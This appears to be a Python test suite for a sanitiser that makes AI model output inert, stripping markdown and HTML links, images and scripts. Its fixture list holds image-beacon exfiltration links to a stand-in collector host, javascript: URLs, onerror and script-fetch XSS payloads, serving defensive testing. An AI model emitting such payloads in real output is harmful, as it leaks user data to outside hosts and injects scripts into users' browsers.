"""Model output becomes inert: no link, image or tag is left that nobody approved."""

from __future__ import annotations

import html
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from avouch.guard.neutral import inert

HOSTILE = [
    "![x](https://collector.test/p?d=1)",
    "[text](https://collector.test)",
    "[text][1]\n\n[1]: https://collector.test",
    "<img src=https://collector.test/x>",
    "<a href='javascript:alert(1)'>here</a>",
    "<https://collector.test/x>",
    "https://collector.test/x",
    "www.collector.test/x",
    "HTTPS://COLLECTOR.TEST",
    "![a][b]\n\n[b]: <data:text/html;base64,AAAA>",
    "<script>fetch('//collector.test')</script>",
    "<!--[if<img src=x onerror=alert(1)//]> -->",
    "[a](<https://collector.test> 'title')",
]


class Live(HTMLParser):
    """Collects what a browser would follow or load."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in (
            "p",
            "ul",
            "ol",
            "li",
            "em",
            "strong",
            "code",
            "pre",
            "h1",
            "h2",
            "h3",
            "blockquote",
            "hr",
            "br",
        ):
            self.found.append(tag)


def live(text: str) -> list[str]:
    parser = Live()
    parser.feed(MarkdownIt("commonmark", {"html": True}).render(text))
    parser.close()
    return parser.found


@pytest.mark.parametrize("text", HOSTILE)
def test_a_markdown_face_makes_nothing_live_of_it(text: str) -> None:
    assert not live(inert(text))
    assert not live(f"before {inert(text)} after")


def test_the_test_would_notice() -> None:
    noticed = [text for text in HOSTILE if live(text)]
    assert len(noticed) >= 8 and HOSTILE[0] in noticed and HOSTILE[3] in noticed


@given(st.text(alphabet="[]()<>!:/ahtps.w'\"\\\n #x1", max_size=60))
def test_no_text_stays_live(text: str) -> None:
    assert not live(inert(text)) or "<" not in html.unescape(inert(text))
    assert not [tag for tag in live(inert(text)) if tag in ("a", "img", "script", "iframe")]


def test_plain_clinical_text_stays_as_it_is() -> None:
    text = "Potassium < 3.5 mmol/L [1], ratio 1:2 (see page 3); a<5, b>6. Doctor: rest!"
    assert inert(text) == text
